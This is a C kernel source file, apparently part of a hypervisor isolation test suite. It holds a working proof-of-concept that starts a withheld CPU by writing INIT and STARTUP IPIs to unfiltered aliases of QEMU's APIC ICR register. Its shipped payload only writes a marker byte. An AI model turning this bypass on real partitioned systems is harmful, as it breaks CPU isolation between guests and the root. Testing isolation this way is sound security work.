// SPDX-License-Identifier: GPL-2.0
/*
 * The root starts a withheld CPU through an alias of the ICR: the local
 * APIC's registers sit 16 bytes apart, and QEMU's APIC decodes a 32-bit
 * write at ICR+4, +8 or +12 as a write of ICR itself.  The hypervisor
 * filters only the write at ICR's own offset (0x300), so INIT and STARTUP
 * IPIs written at 0x304 and 0x308 ("all excluding self") reach the other
 * CPU, with the start program of attack_initsipi.c.
 */
#include "attack.h"

#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <asm/apic.h>

#define START_PAGE   0x70000UL /* below 1 MiB, reserved by Linux, unused */
#define MARKER_AT    0x800     /* offset in START_PAGE */
#define MARKER_VALUE 0x42
#define ICR_ALIAS(n) (APIC_ICR + 4 * (n)) /* n: 1..3 */

/* mov byte [cs:MARKER_AT], MARKER_VALUE; cli; hlt; jmp $-1 (16-bit) */
static const u8 start_code[] = {
	0x2e, 0xc6, 0x06, MARKER_AT & 0xff, MARKER_AT >> 8, MARKER_VALUE, 0xfa,
	0xf4, 0xeb, 0xfd,
};

static void send_all_but_self(u32 alias, u32 mode_and_vector)
{
	native_apic_mem_write(alias, APIC_DEST_ALLBUT | mode_and_vector);
	udelay(200);
}

void attack_icralias(void)
{
	u8 *page;
	u8 marker;

	if (x2apic_enabled()) {
		pr_info("FAIL icralias: the APIC is in x2APIC mode\n");
		return;
	}
	page = memremap(START_PAGE, PAGE_SIZE, MEMREMAP_WB);
	if (!page) {
		pr_info("FAIL icralias: cannot map the start page\n");
		return;
	}
	memset(page, 0, PAGE_SIZE);
	memcpy(page, start_code, sizeof(start_code));
	wbinvd();
	send_all_but_self(ICR_ALIAS(1),
			  APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT);
	mdelay(10);
	send_all_but_self(ICR_ALIAS(2), APIC_DM_STARTUP | (START_PAGE >> 12));
	send_all_but_self(ICR_ALIAS(3), APIC_DM_STARTUP | (START_PAGE >> 12));
	mdelay(100);
	marker = READ_ONCE(page[MARKER_AT]);
	memunmap(page);
	pr_info("icralias marker=0x%x %s\n", marker,
		marker == MARKER_VALUE ? "another-cpu-ran-root-code"
				       : "no-cpu-started");
}
